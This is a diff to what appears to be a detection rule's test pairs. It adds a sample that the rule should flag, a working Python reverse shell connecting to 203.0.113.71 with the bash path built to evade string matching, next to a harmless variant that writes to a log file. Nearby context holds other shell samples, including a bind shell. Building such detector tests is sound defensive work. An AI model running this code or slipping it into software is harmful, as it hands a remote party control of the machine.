@@ -1031,6 +1031,12 @@ SHAPE_RULE_PAIRS = [
      "pty.spawn('/bin/bash')",
      "import os, pty\nfrom functools import partial\nlog = open('session.log', 'w')\nfd = log.fileno()\n"
      "list(map(partial(os.dup2, fd), (1, 2)))\npty.spawn('/bin/bash')"),
+    ("a shell's path spelled with os.sep and os.path.join is still a shell; the same wiring to a log file is "
+     "not a remote shell", "remote_desktop_ssh.reverse-shell",
+     "import socket, os, pty, functools\ns = socket.socket()\ns.connect(('203.0.113.71', 443))\n"
+     "list(map(functools.partial(os.dup2, s.fileno()), range(3)))\npty.spawn(os.path.join(os.sep, 'bin', 'bash'))",
+     "import os, pty, functools\nlog = open('session.log', 'w')\n"
+     "list(map(functools.partial(os.dup2, log.fileno()), (1, 2)))\npty.spawn(os.path.join(os.sep, 'bin', 'bash'))"),
     ("a shell given an accepted connection's descriptor as stdin and stdout is a bind shell; a shell whose output "
      "goes to a socket only after it ran is not", "remote_desktop_ssh.reverse-shell",
      "import socket, subprocess\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 5555))\nsrv.listen(1)\n"
